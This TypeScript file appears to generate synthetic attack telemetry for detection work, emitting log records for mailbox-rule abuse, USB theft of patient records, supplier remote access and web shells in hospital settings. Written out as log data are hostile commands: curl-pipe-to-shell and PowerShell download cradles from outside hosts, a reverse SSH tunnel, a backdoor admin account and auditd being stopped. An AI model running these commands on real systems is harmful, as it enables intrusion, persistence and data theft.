/** Trust abused: a mailbox, a colleague with a stick, a supplier's door, a web form. */
import { MINUTE } from '../../model/time.ts';
import { auditRecord, parameters, signIn } from '../logs/cloud.ts';
import { accessLine, syslogLine } from '../logs/network.ts';
import { CMD, EXPLORER, SYSTEM32, type Chain } from './stage.ts';

function mailbox(variant: string, rule: Readonly<Record<string, string>>, risky: boolean): Chain {
  return {
    kind: 'mail-compromise',
    variant,
    techniques: ['T1078.004', 'T1557', 'T1564.008', 'T1114.003', 'T1534'],
    places: ['hospital', 'practice'],
    hour: 7,
    play: (stage) => {
      const victim = stage.person('clerk');
      const from = stage.address('far');
      for (let count = 0; count < 3; count += 1) {
        signIn(stage.tape, stage.random, stage.at, {
          person: victim,
          from,
          country: 'NG',
          city: 'Lagos',
          error: count < 2 ? 50_076 : 0,
          risk: risky ? 'high' : 'none',
          compliant: false,
          agent: 'Chrome 128.0',
          app: 'OfficeHome',
        });
        stage.wait(20, 90);
      }
      stage.wait(300, 2_000);
      auditRecord(
        stage.tape,
        stage.random,
        stage.at,
        'Exchange',
        'New-InboxRule',
        victim.mail,
        from,
        {
          ObjectId: `${victim.mail}\\${rule['Name'] ?? '.'}`,
          Parameters: parameters(rule),
        },
      );
      stage.wait(1_000, 4_000);
      if (!risky) {
        const ForwardingSmtpAddress = 'smtp:archive.77@mail.invalid';
        auditRecord(
          stage.tape,
          stage.random,
          stage.at,
          'Exchange',
          'Set-Mailbox',
          victim.mail,
          from,
          {
            ObjectId: victim.mail,
            Parameters: parameters({ Identity: victim.mail, ForwardingSmtpAddress }),
          },
        );
      }
      for (let count = 0; count < 40; count += 1) {
        auditRecord(stage.tape, stage.random, stage.at, 'Exchange', 'Send', victim.mail, from, {
          Item: { Subject: 'Outstanding invoice - new bank details' },
        });
        stage.wait(2, 20);
      }
    },
  };
}

function stick(variant: string, night: boolean, tool: 'robocopy' | 'explorer'): Chain {
  return {
    kind: 'insider-usb',
    variant,
    techniques: ['T1052.001', 'T1005'],
    places: ['hospital', 'practice'],
    hour: night ? 22 : 16,
    play: (stage) => {
      const host = stage.workstation();
      const person = stage.person('clerk');
      const user = stage.user(person);
      stage.windows.logon(host, stage.at, person.account, 2, '127.0.0.1');
      stage.wait(60, 300);
      stage.windows.security(host, stage.at, 6416, {
        SubjectUserName: `${host.name}$`,
        SubjectDomainName: stage.place.domain,
        DeviceId: 'USBSTOR\\Disk&Ven_SanDisk&Prod_Ultra&Rev_1.00\\4C530001',
        DeviceDescription: 'SanDisk Ultra USB Device',
        ClassName: 'DiskDrive',
        ClassId: '{4d36e967-e325-11ce-bfc1-08002be10318}',
      });
      stage.wait(30, 90);
      const image = tool === 'robocopy' ? `${SYSTEM32}\\robocopy.exe` : EXPLORER;
      if (tool === 'robocopy')
        stage.command(host, user, 'robocopy \\\\FS01\\Records E:\\copy /E /R:0 /W:0 /MT:16');
      for (let count = 0; count < 400; count += 1) {
        const file = `E:\\copy\\Patients\\${1_970 + (count % 40)}\\record-${count}.pdf`;
        stage.windows.removable(host, stage.at, image, user, file);
        stage.at += stage.random.between(100, 1_500);
      }
    },
  };
}

const supplierTools: Chain = {
  kind: 'supplier-access',
  variant: 'AnyDesk, download, local administrator',
  techniques: ['T1199', 'T1219', 'T1105', 'T1136.001', 'T1090'],
  places: ['hospital', 'practice'],
  hour: 4,
  play: (stage) => {
    const host = stage.server('pacs');
    const user = stage.user(stage.person('supplier'));
    const anydesk = 'C:\\ProgramData\\AnyDesk\\AnyDesk.exe';
    stage.command(host, user, `"${anydesk}" --install C:\\ProgramData\\AnyDesk --silent`, EXPLORER);
    stage.windows.serviceInstalled(host, stage.at, 'AnyDesk Service', `"${anydesk}" --service`);
    stage.wait(200, 900);
    stage.command(
      host,
      user,
      'certutil.exe -urlcache -split -f http://203.0.113.41/n.zip C:\\Users\\Public\\n.zip',
    );
    stage.command(host, user, 'net user imaging Sup0rt!2026 /add', CMD, true);
    stage.command(host, user, 'net localgroup administrators imaging /add', CMD, true);
    stage.command(
      host,
      user,
      'netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.10.1.14 connectport=3389',
      CMD,
      true,
    );
  },
};

const supplierTunnel: Chain = {
  kind: 'supplier-access',
  variant: 'ssh key and tunnel on Linux',
  techniques: ['T1199', 'T1098.004', 'T1572', 'T1548.003'],
  places: ['hospital'],
  hour: 3,
  play: (stage) => {
    const host = stage.seen(stage.place.all('linux')[0] ?? stage.place.of('linux'));
    const supplier = stage.person('supplier');
    const from = stage.address('far');
    const log = (program: string, text: string, priority = 38): void => {
      syslogLine(stage.tape, stage.at, host, program, text, priority);
      stage.wait(5, 90);
    };
    for (let count = 0; count < 14; count += 1)
      log(
        'sshd[4120]',
        `Failed password for ${supplier.account} from ${from} port 50${100 + count} ssh2`,
      );
    log('sshd[4121]', `Accepted password for ${supplier.account} from ${from} port 50412 ssh2`);
    const sudo = (command: string): void =>
      log(
        'sudo',
        `${supplier.account} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=${command}`,
        85,
      );
    sudo('/bin/bash -c curl -s http://203.0.113.41/c | sh');
    sudo('/usr/bin/tee -a /root/.ssh/authorized_keys');
    sudo('/usr/bin/ssh -fN -R 2222:localhost:22 x@203.0.113.41');
    sudo('/usr/bin/systemctl stop auditd');
  },
};

const webShellWindows: Chain = {
  kind: 'web-shell',
  variant: 'IIS portal',
  techniques: ['T1190', 'T1505.003', 'T1059.003', 'T1033'],
  places: ['hospital'],
  hour: 5,
  play: (stage) => {
    const host = stage.server('portal');
    const worker = `${SYSTEM32}\\inetsrv\\w3wp.exe`;
    const user = 'IIS APPPOOL\\Portal';
    stage.windows.file(
      host,
      stage.at,
      worker,
      user,
      'C:\\inetpub\\wwwroot\\portal\\upload\\img01.aspx',
    );
    stage.wait(60, 400);
    for (const command of [
      'whoami',
      'ipconfig /all',
      'net user',
      'dir C:\\inetpub',
      'tasklist /v',
    ]) {
      stage.windows.process(host, stage.at, {
        image: CMD,
        command: `"cmd.exe" /c ${command}`,
        parent: worker,
        parentCommand: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "Portal"',
        user,
      });
      stage.wait(1, 3);
      if (!command.startsWith('dir')) stage.command(host, user, command);
    }
    const load = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.90/p.ps1')";
    stage.powershell(host, user, `powershell -nop -c "${load}"`, load, CMD);
  },
};

const webShellLinux: Chain = {
  kind: 'web-shell',
  variant: 'PHP upload',
  techniques: ['T1190', 'T1505.003', 'T1059.004'],
  places: ['hospital'],
  hour: 6,
  play: (stage) => {
    const host = stage.seen(stage.place.all('linux')[1] ?? stage.place.of('linux'));
    const from = stage.address('far');
    const request = (text: string, status = 200): void => {
      accessLine(stage.tape, stage.at, host, from, text, status, 'python-requests/2.31.0');
      stage.wait(2, 60);
    };
    for (const path of ['/admin.php', '/.env', '/wp-login.php', '/backup.zip', '/../../etc/passwd'])
      request(`GET ${path} HTTP/1.1`, 404);
    request('POST /appointments/upload.php HTTP/1.1');
    for (const command of ['id', 'uname%20-a', 'cat%20/etc/passwd', 'wget%20http://203.0.113.90/x'])
      request(`GET /appointments/files/avatar.php?cmd=${command} HTTP/1.1`);
    stage.at += 5 * MINUTE;
    syslogLine(
      stage.tape,
      stage.at,
      host,
      'sudo',
      'www-data : 3 incorrect password attempts ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash',
      81,
    );
  },
};

export const ABUSES: readonly Chain[] = [
  mailbox(
    'hidden rule',
    { Name: '..', MoveToFolder: 'RSS Subscriptions', SubjectContainsWords: 'invoice;payment' },
    true,
  ),
  mailbox('forwarding', { Name: 'x', DeleteMessage: 'True', From: 'bank' }, false),
  stick('robocopy, at night', true, 'robocopy'),
  stick('by hand, at the end of the day', false, 'explorer'),
  supplierTools,
  supplierTunnel,
  webShellWindows,
  webShellLinux,
];
